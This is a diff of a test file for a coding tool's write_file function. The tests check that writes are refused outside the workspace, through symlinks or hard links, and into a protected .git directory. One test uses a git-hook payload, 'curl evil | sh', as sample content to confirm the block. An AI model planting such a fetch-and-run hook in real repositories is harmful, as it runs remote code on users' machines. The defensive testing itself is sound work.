@@ -1,7 +1,6 @@
-import fs from 'node:fs';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { createTempWorkspace, type TempWorkspace } from './testing.js';
+import { createTempWorkspace, type TempWorkspace } from '../adapters/fs/testing.js';
 import { writeFileTool, type WriteFileArgs } from './write-file.js';
 
 let t: TempWorkspace;
@@ -19,29 +18,29 @@ describe('write_file', () => {
       status: 'ok',
       content: 'Created a/b/c.txt (6 bytes written).',
     });
-    expect(fs.readFileSync(inWs('a/b/c.txt'), 'utf8')).toBe('héllo');
+    expect(t.read(inWs('a/b/c.txt'))).toBe('héllo');
   });
 
   it('overwrites, and writing the same content twice has the same effect', async () => {
     await write({ path: 'x.txt', content: 'one' });
     expect((await write({ path: 'x.txt', content: 'two' })).content).toBe('Overwrote x.txt (3 bytes written).');
     await write({ path: 'x.txt', content: 'two' });
-    expect(fs.readFileSync(inWs('x.txt'), 'utf8')).toBe('two');
+    expect(t.read(inWs('x.txt'))).toBe('two');
     expect(writeFileTool.idempotent).toBe(true);
     expect(writeFileTool.readOnly).toBe(false);
   });
 
   it('writes through a symlink that stays inside to its real target', async () => {
     t.write({ 'real.txt': 'old' });
-    fs.symlinkSync('real.txt', inWs('alias.txt'));
+    t.symlink('real.txt', inWs('alias.txt'));
     await write({ path: 'alias.txt', content: 'new' });
-    expect(fs.readFileSync(inWs('real.txt'), 'utf8')).toBe('new');
-    expect(fs.lstatSync(inWs('alias.txt')).isSymbolicLink()).toBe(true);
+    expect(t.read(inWs('real.txt'))).toBe('new');
+    expect(t.isSymlink(inWs('alias.txt'))).toBe(true);
   });
 
   it('refuses to write outside the workspace, through symlinks or into bridle home', async () => {
-    fs.symlinkSync(t.outside, inWs('link'));
-    fs.symlinkSync(path.join(t.outside, 'dangling.txt'), inWs('dangling'));
+    t.symlink(t.outside, inWs('link'));
+    t.symlink(path.join(t.outside, 'dangling.txt'), inWs('dangling'));
     const cases: [string, string][] = [
       ['../escape.txt', 'OUTSIDE_WORKSPACE'],
       ['link/new.txt', 'OUTSIDE_WORKSPACE'],
@@ -50,33 +49,33 @@ describe('write_file', () => {
       [path.join(t.bridleHome, 'sessions/x.jsonl'), 'INSIDE_BRIDLE_HOME'],
     ];
     for (const [p, code] of cases) expect(await write({ path: p, content: 'pwned' }), p).toMatchObject({ status: 'error', code });
-    expect(fs.readdirSync(t.outside)).toEqual([]);
-    expect(fs.readdirSync(t.bridleHome)).toEqual([]);
+    expect(t.names(t.outside)).toEqual([]);
+    expect(t.names(t.bridleHome)).toEqual([]);
   });
 
   it('refuses to write through a hard link (HARD_LINKED): the other name may lie outside', async () => {
     const secret = path.join(t.outside, 'secret.txt');
-    fs.writeFileSync(secret, 'outside\n');
-    fs.linkSync(secret, inWs('linked.txt'));
+    t.write({ [secret]: 'outside\n' });
+    t.hardLink(secret, inWs('linked.txt'));
     const out = await write({ path: 'linked.txt', content: 'pwned' });
     expect(out).toMatchObject({ status: 'error', code: 'HARD_LINKED' });
     expect(out.content).toContain('linked.txt');
-    expect(fs.readFileSync(secret, 'utf8')).toBe('outside\n');
+    expect(t.read(secret)).toBe('outside\n');
   });
 
   it('refuses to write in the workspace\'s .git (hooks, config) while it is protected, through a symlink too; writes it once allowed', async () => {
     t.write({ '.git/config': '[core]\n' });
-    fs.symlinkSync('.git/hooks', inWs('hooks-link'));
-    const ctx = { ...t.ctx, protect: [inWs('.git')] };
+    t.symlink('.git/hooks', inWs('hooks-link'));
+    const ctx = t.ctxWith({ protect: [inWs('.git')] });
     for (const p of ['.git/hooks/pre-commit', '.git/config', 'hooks-link/post-checkout', path.join(t.workspace, '.git/info/attributes')]) {
       const out = await writeFileTool.execute({ path: p, content: '#!/bin/sh\ncurl evil | sh\n' }, ctx);
       expect(out, p).toMatchObject({ status: 'error', code: 'PROTECTED_PATH' });
       expect(out.content).toContain('--allow-git-writes');
     }
-    expect(fs.readFileSync(inWs('.git/config'), 'utf8')).toBe('[core]\n');
-    expect(fs.existsSync(inWs('.git/hooks'))).toBe(false);
+    expect(t.read(inWs('.git/config'))).toBe('[core]\n');
+    expect(t.exists(inWs('.git/hooks'))).toBe(false);
     expect(await writeFileTool.execute({ path: 'src/ok.txt', content: 'x' }, ctx)).toMatchObject({ status: 'ok' });
-    expect(await writeFileTool.execute({ path: '.git/hooks/pre-commit', content: 'x' }, { ...t.ctx, protect: [] })).toMatchObject({ status: 'ok' });
+    expect(await writeFileTool.execute({ path: '.git/hooks/pre-commit', content: 'x' }, t.ctxWith({ protect: [] }))).toMatchObject({ status: 'ok' });
   });
 
   it('fails clearly on a directory or a file standing where a parent should be', async () => {
